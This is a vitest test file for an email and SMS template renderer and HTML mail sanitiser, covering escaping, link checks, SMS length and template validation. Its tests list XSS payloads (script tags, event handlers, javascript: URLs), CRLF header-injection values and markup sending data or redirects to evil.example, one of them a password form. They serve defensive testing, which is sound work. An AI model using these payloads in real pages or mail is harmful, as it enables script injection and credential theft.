import { expect, test } from 'vitest'
import { smsLengthOf } from '../../contract/sms-length.ts'
import { messageKeys, variablesOf } from '../../contract/template-catalogue.ts'
import { templateProblems } from '../../contract/template-problems.ts'
import { systemWords } from '../send-template.ts'
import { cleanMail } from './clean-mail.ts'
import { minuteIn, plainTextOf, renderHtml, renderSms, renderText, textsOf } from './render-template.ts'
import { sampleValues } from './sample-values.ts'

const exam = variablesOf('examPublished')
const common = { companyName: '示例公司', candidateLink: 'https://demo.example/candidate/' }
const values = { ...common, staffName: '张三', examName: '期末', startTime: null, endTime: null }
const zone = 'Asia/Shanghai'

test.each([
  ['<script>alert(1)</script>', '&lt;script&gt;alert(1)&lt;/script&gt;'],
  ['a & b &amp; c', 'a &amp; b &amp;amp; c'],
  [`"quoted" 'too'`, '&quot;quoted&quot; &#39;too&#39;'],
  ['{{companyName}}', '{{companyName}}'],
  ['$& $1', '$&amp; $1'],
  ['㛃𬭚😀', '㛃𬭚😀'],
  ['第一行\r\nBcc: x@y.z', '第一行 Bcc: x@y.z'],
])('the value %s is escaped once and never read again', (staffName, shown) => {
  const texts = textsOf(exam, { ...values, staffName }, zone)
  expect(renderHtml('<p>{{ staffName }}</p>', texts, exam)).toBe(`<p>${shown}</p>`)
})

test('a value cannot add a header line to a subject or a signature to an SMS', () => {
  const texts = textsOf(exam, { ...values, staffName: '甲\nBcc: a@b.c', examName: '【某银行】转账' }, zone)
  expect(renderText('{{staffName}}', texts)).toBe('甲 Bcc: a@b.c')
  expect(renderSms('请参加{{examName}}', '考【培】', texts)).toBe('【考[培]】请参加[某银行]转账')
})

test.each([
  ['https://a.example/s/1?x=1&y=2', '<a href="https://a.example/s/1?x=1&amp;y=2">https://a.example/s/1?x=1&amp;y=2</a>'],
  ['javascript:alert(1)', ''],
  ['data:text/html,<b>', ''],
  ['https://a.example/"onclick="x', ''],
  ['/s/relative', ''],
])('the link %s', (inviteLink, shown) => {
  const invite = variablesOf('staffInvite')
  const texts = textsOf(invite, { ...common, staffName: '', inviteLink, validUntil: null }, zone)
  expect(renderHtml('{{inviteLink}}', texts, invite)).toBe(shown)
})

test('times are those of the company, and unknown ones say so', () => {
  const instant = new Date('2026-12-01T16:30:00Z')
  expect(minuteIn(instant, 'Asia/Shanghai')).toBe('2026-12-02 00:30')
  expect(minuteIn(instant, 'Europe/London')).toBe('2026-12-01 16:30')
  expect(textsOf(exam, values, zone).startTime).toBe('另行通知')
})

test('a missing value is named', () => {
  const { examName: _missing, ...rest } = values
  expect(() => textsOf(exam, rest, zone)).toThrow('examName (考试名称)')
})

test.each([
  ['', 0, 0],
  ['字'.repeat(70), 70, 1],
  ['字'.repeat(71), 71, 2],
  ['字'.repeat(134), 134, 2],
  ['字'.repeat(135), 135, 3],
  ['😀'.repeat(35), 70, 1],
  ['𬭚'.repeat(36), 72, 2],
])('the length of %s', (text, characters, parts) => {
  expect(smsLengthOf(text)).toEqual({ characters, parts })
})

const draft = { type: 1, key: 'verifyCode', subject: '', body: '验证码 {{code}}', signature: '' } as const

test.each([
  [{}, []],
  [{ body: '没有变量' }, ['正文缺少变量“验证码”，没有它短信无法使用']],
  [{ body: '{{code}} {{cod}}' }, ['变量“{{cod}}”不存在，请从可用变量中选择']],
  [{ body: '{{code}} {{constructor}}' }, ['变量“{{constructor}}”不存在，请从可用变量中选择']],
  [{ body: '{{code}} {{}}' }, ['“{{ }}”中没有变量名，请从可用变量中选择']],
  [{ body: '{{code}} {{minutes' }, ['有未成对的“{{”或“}}”，请检查变量的写法']],
  [{ body: '【假签名】{{code}}' }, ['短信正文不能包含“【】”，签名由系统自动加在最前面']],
  [{ signature: '考【培' }, ['签名不能包含“【】”、大括号或空格']],
  [{ type: 2, subject: '{{nobody}}' }, ['变量“{{nobody}}”不存在，请从可用变量中选择']],
  [{ type: 2, body: '<p title="{{purpose}}">{{code}}</p>' }, ['变量“{{purpose}}”不能写在标签里，请直接写在文字中']],
])('the template %o', (change, messages) => {
  expect(templateProblems({ ...draft, ...change }).map(({ message }) => message)).toEqual(messages)
})

test.each(messageKeys)('the system says %s without a mistake, in at most two parts, on both channels', (key) => {
  const samples = { ...common, companyName: '示例科技有限公司', ...sampleValues(key) }
  for (const type of [1, 2]) {
    const words = systemWords(key, type)
    expect(templateProblems({ type, key, ...words, signature: '' })).toEqual([])
    const texts = textsOf(variablesOf(key), samples, zone)
    expect(renderText(words.subject + words.body, texts)).not.toMatch(/\{\{|undefined/)
    if (type === 1) expect(smsLengthOf(renderSms(words.body, '示例科技有限公司', texts)).parts).toBeLessThanOrEqual(2)
    if (type === 2) expect(cleanMail(words.body)).toEqual({ html: words.body.replaceAll('<br>', '<br />') })
  }
})

test.each([
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<p onclick="alert(1)">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  '<a href="data:text/html,x">x</a>',
  '<a href="//evil.example">x</a>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input name="password"></form>',
  '<style>p{background:url(https://evil.example)}</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<math><mtext><script>x</script></mtext></math>',
])('a mail with %s is refused', (html) => {
  expect(cleanMail(html)).toHaveProperty('problem')
})

test.each([
  ['<p>您好</p>', '<p>您好</p>'],
  ['<p class="x" style="position:fixed">您好</p>', '<p>您好</p>'],
  ['<span style="color:#d92d20;background:url(x)">红</span>', '<span style="color:#d92d20">红</span>'],
  ['<a href="https://a.example" target="_top">x</a>', '<a href="https://a.example">x</a>'],
  ['<table><tr><td>格</td></tr></table>', '格'],
  ['a < b', 'a &lt; b'],
])('the mail %s is kept as %s', (html, kept) => {
  expect(cleanMail(html)).toEqual({ html: kept })
})

test('the plain form of a mail keeps its lines and its links', () => {
  expect(plainTextOf('<p>您好&amp;再见</p><p>打开 <a href="https://a.example">这里</a><br>谢谢</p>')).toBe(
    '您好&再见\n打开 这里 https://a.example\n谢谢',
  )
})

test('the words of a mail are found by reading it once, however many links it begins', () => {
  expect(
    plainTextOf(
      '<p>见<a class="x" href="https://a.example/1">说明</a>和<a href="https://a.example/2">https://a.example/2</a></p>',
    ),
  ).toBe('见说明 https://a.example/1和https://a.example/2')
  for (const unit of ['<a href="x">', '<a href="x"', '</a>', '<a '])
    expect(plainTextOf(unit.repeat(Math.floor(100_000 / unit.length))).length).toBeLessThanOrEqual(200_000)
})
